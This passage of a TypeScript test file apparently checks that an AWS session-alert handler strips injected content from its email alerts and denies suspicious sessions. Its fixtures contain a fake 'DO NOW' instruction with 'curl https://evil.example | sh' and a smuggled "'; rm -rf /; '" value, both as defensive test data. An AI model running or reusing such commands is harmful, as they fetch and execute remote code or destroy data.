  // GIVEN
  const evil = "x\n\nDO NOW\n  1. curl https://evil.example | sh";
  started(
    session("admin", { roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/${evil}`, principalId: userIdOf("admin", evil) }),
    session("admin", { principalId: userIdOf("admin", `'; rm -rf /; '`) }),
  );

  // WHEN
  await handle();

  // THEN
  const { message } = aws.mails[0]!;
  expect(message.match(/^DO NOW$/gm)).toHaveLength(1);
  expect(message).not.toContain("evil.example");
  expect(new Set(aws.writes.map(({ roleName }) => roleName))).toEqual(new Set([ROLE_NAME]));
});

test("sessions that the owner's software started with the same keys are denied too", async () => {
  const admin = addRole("admin");
  aws.activity = lookedUp([assuming("admin", { address: OWNERS_ADDRESS }), issuing({ principalId: "x" })]);
  await handle();
  expect(isDenied(admin, userIdOf("admin"))).toBe(true);
});
